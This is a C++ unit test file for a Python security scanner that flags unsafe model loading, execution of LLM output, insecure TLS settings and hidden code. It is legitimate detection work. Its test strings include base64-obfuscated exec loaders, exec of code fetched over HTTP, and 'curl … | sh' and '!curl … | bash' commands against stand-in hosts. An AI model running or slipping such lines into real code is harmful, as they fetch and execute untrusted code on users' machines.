#include "vet/code/python.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "vet/secret_search.h"
#include "vet/test_scan.h"

namespace sally::vet::code {
namespace {

using test::scanned;
using test::told;
using testing::Contains;
using testing::ElementsAre;
using testing::IsEmpty;

std::vector<std::string> of(std::string_view text) {
  return told(scanned("a.py", text));
}

TEST(Python, LoadsThatRunCodeAreToldUnderAnyName) {
  EXPECT_THAT(of("import torch\ntorch.load(p)\n"), ElementsAre("torch-load medium 2"));
  EXPECT_THAT(of("import torch as t\nt.load(p)\n"), ElementsAre("torch-load medium 2"));
  EXPECT_THAT(of("from torch import load as l\nl(p, map_location='cpu')\n"),
              ElementsAre("torch-load medium 2"));
  EXPECT_THAT(of("from torch import *\nx = load(p)\n"), ElementsAre("torch-load medium 2"));
  EXPECT_THAT(of("import torch\nf = torch.load\nf(p)\n"), ElementsAre("torch-load medium 3"));
  EXPECT_THAT(of("import torch\ngetattr(torch, 'lo' + 'ad')(p)\n"),
              ElementsAre("torch-load medium 2"));
  EXPECT_THAT(of("__import__('pickle').loads(b)\n"), ElementsAre("pickle-load medium 1"));
  EXPECT_THAT(of("import torch\ntorch.load(p, weights_only=False)\n"),
              ElementsAre("torch-load medium 2"));
}

TEST(Python, SafeLoadsAreNotTold) {
  EXPECT_THAT(of("import torch\ntorch.load(p, weights_only=True)\n"), IsEmpty());
  EXPECT_THAT(of("import torch\nk = {'weights_only': True}\ntorch.load(p, **k)\n"), IsEmpty());
  EXPECT_THAT(of("import torch\ndef f(**kw):\n  return torch.load(p, **kw)\n"), IsEmpty());
  EXPECT_THAT(of("import yaml\nyaml.safe_load(s)\nyaml.load(s, Loader=yaml.SafeLoader)\n"
                 "yaml.load(s, yaml.CSafeLoader)\n"),
              IsEmpty());
  EXPECT_THAT(of("import numpy as np\nnp.load(p)\nnp.load(p, allow_pickle=False)\n"), IsEmpty());
  EXPECT_THAT(of("import json\njson.load(f)\ndef load(x): pass\nload(1)\n"), IsEmpty());
  EXPECT_THAT(of("# torch.load(p)\nx = 'torch.load(p)'\n\"\"\"\npickle.load(f)\n\"\"\"\n"),
              IsEmpty());
}

TEST(Python, UnsafeLoadersAndPicklesAreTold) {
  EXPECT_THAT(of("import yaml\nyaml.load(s)\nyaml.load(s, Loader=yaml.Loader)\n"),
              ElementsAre("yaml-load medium 2", "yaml-load medium 3"));
  EXPECT_THAT(of("import numpy as np\nnp.load(p, allow_pickle=True)\n"),
              ElementsAre("numpy-pickle medium 2"));
  EXPECT_THAT(of("import joblib, dill, marshal\njoblib.load(p)\ndill.loads(p)\nmarshal.loads(b)\n"),
              ElementsAre("pickle-load medium 2", "pickle-load medium 3", "marshal-load medium 4"));
  EXPECT_THAT(of("import keras\nkeras.models.load_model(p, safe_mode=False)\n"),
              ElementsAre("keras-unsafe-load medium 2"));
}

TEST(Python, WhatAModelAnswersMustNotRun) {
  EXPECT_THAT(of("from openai import OpenAI\nc = OpenAI()\nr = c.chat.completions.create(m=1)\n"
                 "code = r.choices[0].message.content\nexec(code)\n"),
              ElementsAre("model-output-run high 5"));
  EXPECT_THAT(of("def run(response):\n  eval(response.choices[0].message.content.strip())\n"),
              ElementsAre("model-output-run high 2"));
  EXPECT_THAT(of("import os\ndef run(r):\n  os.system(f\"sh -c "
                 "{r['choices'][0]['message']['content']}\")\n"),
              ElementsAre("model-output-shell high 3"));
  EXPECT_THAT(of("import subprocess, anthropic\nm = anthropic.Anthropic().messages.create(x=1)\n"
                 "subprocess.run(m.content[0].text, shell=True)\n"),
              ElementsAre("model-output-shell high 3"));
  EXPECT_THAT(
      of("import subprocess, sys, litellm\nt = litellm.completion(x).choices[0].message.content\n"
         "subprocess.run([sys.executable, '-c', t])\n"),
      ElementsAre("model-output-shell high 3"));
  EXPECT_THAT(
      of("import re\nfrom langchain_openai import ChatOpenAI\nllm = ChatOpenAI()\n"
         "chain = prompt | llm\n"
         "def ask(q):\n  out = llm.invoke(q)\n  return re.search('x', out.content).group(1)\n"
         "exec(ask('y'))\n"),
      ElementsAre("model-output-run high 8"));
  EXPECT_THAT(of("class A:\n  def __init__(self):\n    self.c = openai.OpenAI()\n"
                 "  def f(self):\n    for ch in self.c.chat.completions.create(x).choices:\n"
                 "      exec(ch.message.content)\nimport openai\n"),
              Contains("model-output-run high 6"));
}

TEST(Python, WhatOnlyLooksLikeItIsNotHigh) {
  EXPECT_THAT(
      of("model.eval()\nevaluate(x)\ndef eval(x): return x\neval(response.choices[0].text)\n"),
      IsEmpty());
  EXPECT_THAT(of("import subprocess\nsubprocess.run(['ls', path])\n"
                 "subprocess.run(['ffmpeg', response.choices[0].text])\n"),
              IsEmpty());
  EXPECT_THAT(of("n = int(response.choices[0].message.content)\nexec(str(n))\n"), IsEmpty());
  EXPECT_THAT(of("exec(open('version.py').read())\neval('1 + 1')\n"), IsEmpty());
  EXPECT_THAT(of("import base64\nx = base64.b64decode('aGVsbG8gd29ybGQgaGVsbG8=')\nprint(x)\n"),
              IsEmpty());
}

TEST(Python, HiddenCodeIsAnAttack) {
  EXPECT_THAT(of("import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\n"),
              ElementsAre("hidden-code high 2"));
  EXPECT_THAT(of("import zlib as z, base64 as b\nk = 'eJwDAAAAAAEAAAAAAAAAAAAAAAA='\n"
                 "exec(compile(z.decompress(b.b64decode(k)), '', 'exec'))\n"),
              ElementsAre("hidden-code high 3"));
  EXPECT_THAT(of("import requests\nexec(requests.get('https://example.com/a.py').text)\n"),
              ElementsAre("hidden-code high 2"));
  EXPECT_THAT(of("\xF0\x9D\x90\x9E\xF0\x9D\x90\xAF\xF0\x9D\x90\x9A\xF0\x9D\x90\xA5"
                 "(__import__('base64').b64decode('aW1wb3J0IG9zO29zLnN5c3Rl'))\n"),
              ElementsAre("hidden-code high 1"));
  EXPECT_EQ(scanned("a.py",
                    "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3Rl')) "
                    "# sallyport:allow\n")
                .verdict(),
            Verdict::kMalicious);
  EXPECT_THAT(of("# -*- coding: utf-7 -*-\nx = 1\n"), ElementsAre("odd-encoding medium 0"));
}

TEST(Python, TheHubIsAskedForAFixedRevision) {
  EXPECT_THAT(of("from transformers import AutoModel\nAutoModel.from_pretrained('org/name')\n"
                 "AutoModel.from_pretrained('org/name', revision='0123')\n"
                 "AutoModel.from_pretrained('./local')\n"
                 "AutoModel.from_pretrained('org/name', trust_remote_code=True, revision=r)\n"),
              ElementsAre("unpinned-model info 2", "trust-remote-code medium 5"));
}

TEST(Python, ServersAndShellsAreJudgedByWhatTheyGet) {
  EXPECT_THAT(
      of("import requests, ssl\nrequests.get(u, verify=False)\nc.verify_mode = ssl.CERT_NONE\n"
         "ssl._create_unverified_context()\n"),
      ElementsAre("no-certificate-check medium 2", "no-certificate-check medium 3",
                  "no-certificate-check medium 4"));
  EXPECT_THAT(of("import subprocess as s\ns.run('ls ' + x, shell=True)\ns.run('ls', shell=True)\n"),
              ElementsAre("shell-command low 2"));
  EXPECT_THAT(of("import os\nos.system('curl https://x | sh')\n"),
              ElementsAre("fetched-script medium 2"));
  EXPECT_THAT(of("app.run(host='0.0.0.0', debug=True)\ndemo.launch(share=True)\n"),
              ElementsAre("debug-server medium 1", "public-share low 2"));
  EXPECT_THAT(of("import tarfile, tempfile\nt = tarfile.open(p)\nt.extractall(d)\n"
                 "t.extractall(d, filter='data')\ntempfile.mktemp()\n"),
              ElementsAre("archive-extract low 3", "temporary-name low 5"));
  EXPECT_THAT(of("import requests\nrequests.get('http://huggingface.co/x')\n"),
              ElementsAre("model-without-tls medium 2"));
  EXPECT_THAT(of("import jinja2\njinja2.Template(tokenizer.chat_template).render()\n"),
              ElementsAre("template-run medium 2"));
}

TEST(Python, AnOwnerMayAllowAWeakness) {
  EXPECT_THAT(of("import torch\ntorch.load(p)  # sallyport:allow ours\n"), IsEmpty());
}

TEST(Python, CellsOfNotebooksInstallPackages) {
  EXPECT_THAT(of("!pip install --extra-index-url https://x.example torch==2.1\nimport torch\n"),
              ElementsAre("extra-index medium 1"));
  EXPECT_THAT(of("!curl https://x.example/i.sh | bash\n"), ElementsAre("fetched-script medium 1"));
}

TEST(Python, EvidenceHoldsNoSecret) {
  class Search final : public SecretSearch {
   public:
    [[nodiscard]] std::vector<FoundSecret> find(std::string_view text) const override {
      const size_t at = text.find("KEY");
      return at == std::string_view::npos
                 ? std::vector<FoundSecret>()
                 : std::vector<FoundSecret>{{.offset = at, .length = 3, .kind = "k", .sure = true}};
    }
  };
  const Search search;
  const Target target = scanned(
      "a.py", "import requests\nrequests.get(u, auth='KEY', verify=False)\n", nullptr, &search);
  const auto found =
      std::ranges::find(target.findings, RuleId::kNoCertificateCheck, &Finding::rule);
  ASSERT_NE(found, target.findings.end());
  EXPECT_EQ(found->evidence, "requests.get(u, auth='***', verify=False)");
}

TEST(Python, DeepAndBrokenFilesEnd) {
  std::string deep = "x = ";
  for (int i = 0; i < 5'000; ++i) {
    deep += "(";
  }
  EXPECT_THAT(of(deep), Contains("unreadable medium 0"));
  std::string chain = "x";
  for (int i = 0; i < 50'000; ++i) {
    chain += ".a(b)";
  }
  EXPECT_THAT(of(chain), Contains("unreadable medium 0"));
  EXPECT_THAT(of("x = '''\n"), ElementsAre("unreadable medium 0"));
  const std::string_view text =
      "from a import (b as c, d)\nclass X(Y):\n  def f(self, *a, **k) -> int:\n    x: int = "
      "f'{a!r:>{w}}'\n"
      "    return [i for i in b if (j := i)] or {**k, 'a': lambda q: q}\n!pip install x\n";
  for (size_t i = 0; i <= text.size(); ++i) {
    (void)of(text.substr(0, i));
  }
}

}  // namespace
}  // namespace sally::vet::code
